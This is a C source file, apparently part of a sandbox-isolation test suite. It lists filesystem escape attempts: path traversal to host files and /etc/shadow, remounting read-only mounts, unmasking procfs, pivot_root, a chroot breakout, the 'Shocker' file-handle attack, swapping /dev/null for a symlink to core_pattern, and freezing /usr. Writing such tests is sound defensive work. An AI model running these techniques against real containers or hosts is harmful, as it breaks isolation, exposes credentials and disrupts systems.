/* Mounts, and files outside of the tenant's root. */
#include "attack.h"

#include <fcntl.h>
#include <linux/fs.h>
#include <linux/mount.h>
#include <stdio.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/stat.h>

static void host_file(void)
{
    static const char *const paths[] = {
        "/" HOST_SECRET, "/../" HOST_SECRET, "/../../../../" HOST_SECRET, "/usr/../../" HOST_SECRET,
        "/proc/self/root/../" HOST_SECRET, "/proc/self/cwd/../" HOST_SECRET, "/proc/thread-self/root/" HOST_SECRET,
    };
    for (size_t index = 0; index < sizeof paths / sizeof *paths; index++)
        try_secret(AT_FDCWD, paths[index]);
    refused("open %s", "a file of the host");
}

static void shadow(void)
{
    static const char *const paths[] = {"/etc/shadow", "/../etc/shadow"};
    char text[16];
    for (size_t index = 0; index < sizeof paths / sizeof *paths; index++) {
        if (read_some(AT_FDCWD, paths[index], text, sizeof text) > 0)
            escaped("read the host's %s", paths[index]);
        if (errno != ENOENT)
            break;
    }
    refused("open /etc/shadow");
}

static void mount_tmpfs(void)
{
    must(mount("none", "/tmp", "tmpfs", 0, NULL), "mount");
    escaped("mounted a tmpfs");
}

static void remount_root(void)
{
    must(mount("none", "/", NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, NULL), "mount /");
    escaped("the root is no longer read-only");
}

static void remount_usr(void)
{
    must(mount("none", "/usr", NULL, MS_REMOUNT | MS_BIND | MS_NOSUID | MS_NODEV, NULL), "mount /usr");
    escaped("/usr is no longer read-only");
}

static void unmask(void)
{
    must(umount2("/proc/kcore", MNT_DETACH), "umount2 /proc/kcore");
    escaped("took the mask from /proc/kcore");
}

static void second_proc(void)
{
    must(mkdir("/tmp/proc", 0755), "mkdir /tmp/proc");
    int status = mount("proc", "/tmp/proc", "proc", 0, NULL);
    if (status < 0)
        refused("mount proc");
    umount2("/tmp/proc", MNT_DETACH);
    escaped("mounted a procfs without masks");
}

/* CVE-2022-0185: an overflow in the parser of legacy mount options, reached by fsconfig in one's own user namespace. */
static void mount_context(void)
{
    int context = (int)must(syscall(SYS_fsopen, "tmpfs", 0), "fsopen");
    must(syscall(SYS_fsconfig, context, FSCONFIG_SET_STRING, "size", "4096", 0), "fsconfig");
    escaped("an option reached the file system's parser");
}

static void copy_mount(void)
{
    must(syscall(SYS_open_tree, AT_FDCWD, "/usr", OPEN_TREE_CLONE), "open_tree");
    escaped("copied the mount of /usr");
}

static void move_a_mount(void)
{
    must(mkdir("/tmp/target", 0755), "mkdir");
    must(syscall(SYS_move_mount, AT_FDCWD, "/dev/mqueue", AT_FDCWD, "/tmp/target", 0), "move_mount");
    escaped("moved a mount");
}

static void change_mount(void)
{
    struct mount_attr change = {.attr_clr = MOUNT_ATTR_NOSUID};
    must(syscall(SYS_mount_setattr, AT_FDCWD, "/dev/shm", 0, &change, sizeof change), "mount_setattr");
    escaped("took nosuid from /dev/shm");
}

static void pivot(void)
{
    must(chdir("/tmp"), "chdir");
    must(syscall(SYS_pivot_root, ".", "."), "pivot_root");
    escaped("changed the root mount");
}

/* The classic way out of chroot(2): keep a directory open above the new root, and climb from there. */
static void break_chroot(void)
{
    int outside = (int)must(open("/", O_RDONLY | O_DIRECTORY), "open /");
    mkdir("/tmp/jail", 0755);
    must(chroot("/tmp/jail"), "chroot");
    must(fchdir(outside), "fchdir");
    for (int step = 0; step < 64; step++)
        if (chdir("..") < 0)
            break;
    must(chroot("."), "chroot");
    try_secret(AT_FDCWD, "/" HOST_SECRET);
    try_secret(AT_FDCWD, "/../" HOST_SECRET);
    refused("open a file of the host from outside of the jail");
}

/* "Shocker": inode 2 is the root directory of an ext4 file system, whatever of it is mounted. */
static void shocker(void)
{
    struct {
        struct file_handle handle;
        unsigned int inode, generation;
    } root = {.handle = {.handle_bytes = 8, .handle_type = 1}, .inode = 2, .generation = 0};
    int usr = (int)must(open("/usr", O_RDONLY | O_DIRECTORY), "open /usr");
    int directory = (int)must(open_by_handle_at(usr, &root.handle, O_RDONLY | O_DIRECTORY), "open_by_handle_at");
    try_secret(directory, HOST_SECRET);
    escaped("opened the root of the file system of /usr");
}

static void write_usr(void)
{
    must(open("/usr/local/escape", O_CREAT | O_WRONLY, 0644), "open /usr/local/escape");
    unlink("/usr/local/escape");
    escaped("made a file in the host's /usr");
}

static void write_root(void)
{
    must(mkdir("/escape", 0755), "mkdir /escape");
    rmdir("/escape");
    escaped("made a directory in the root");
}

/* CVE-2025-31133, CVE-2026-41579: /dev/null replaced by a link, for whoever masks files with it next. */
static void replace_null(void)
{
    must(symlink("/proc/sys/kernel/core_pattern", "/dev/null.new"), "symlink /dev/null.new");
    int status = rename("/dev/null.new", "/dev/null");
    unlink("/dev/null.new");
    if (status < 0)
        refused("rename /dev/null");
    escaped("/dev/null is a link");
}

/* Everybody who writes to a frozen file system waits. It is thawed at once. */
static void freeze_usr(void)
{
    int usr = (int)must(open("/usr", O_RDONLY | O_DIRECTORY), "open /usr");
    must(ioctl(usr, FIFREEZE, 0), "FIFREEZE of /usr");
    ioctl(usr, FITHAW, 0);
    escaped("froze the file system of /usr");
}

const struct attack filesystem_attacks[] = {
    {"host-file", host_file},         {"shadow", shadow},
    {"mount-tmpfs", mount_tmpfs},     {"remount-root", remount_root},
    {"remount-usr", remount_usr},     {"unmask", unmask},
    {"second-proc", second_proc},     {"mount-context", mount_context},
    {"copy-mount", copy_mount},       {"move-mount", move_a_mount},
    {"change-mount", change_mount},   {"pivot-root", pivot},
    {"break-chroot", break_chroot},   {"shocker", shocker},
    {"write-usr", write_usr},         {"write-root", write_root},
    {"replace-null", replace_null},   {"freeze", freeze_usr},
    {NULL, NULL},
};
